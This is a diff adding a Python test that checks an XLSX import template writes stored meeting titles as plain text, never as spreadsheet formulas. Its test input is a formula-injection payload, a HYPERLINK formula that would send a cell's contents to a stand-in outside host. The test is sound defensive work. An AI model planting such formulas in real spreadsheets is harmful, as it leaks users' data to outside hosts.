@@ -915,6 +915,33 @@ def test_template_downloads(client: TestClient, session: Session) -> None:
     assert_problem(client.get(url, params={"format": "pdf"}), 400, "query.format")
 
 
+def test_template_writes_stored_texts_as_text_never_as_formulas(
+    client: TestClient, session: Session
+) -> None:
+    """A meeting title is a member's text; a workbook members download must not run it."""
+    cop, _, _ = _small_community(session)
+    title = '=HYPERLINK("https://example.org/?"&A1,"Kick-off")'
+    communities.create_meeting(session, cop, MeetingCreate(title=title, date=dt.date(2024, 1, 10)))
+
+    response = client.get(f"/api/v1/communities/{cop.id}/imports/template")
+
+    assert response.status_code == 200, response.text
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    cells = [cell for row in workbook["bijeenkomsten"].iter_rows(min_row=2) for cell in row]
+    assert [(cell.value, cell.data_type) for cell in cells] == [
+        (title, "s"),
+        ("2024-01-10", "s"),
+    ]
+    formulas = [
+        cell.coordinate
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+
+
 def test_template_copes_with_control_characters_in_stored_texts(client: TestClient) -> None:
     """Found by schemathesis: a meeting title with a control character broke the XLSX template."""
     community = client.post("/api/v1/communities", json={"name": "CoP \u0001 controle"}).json()
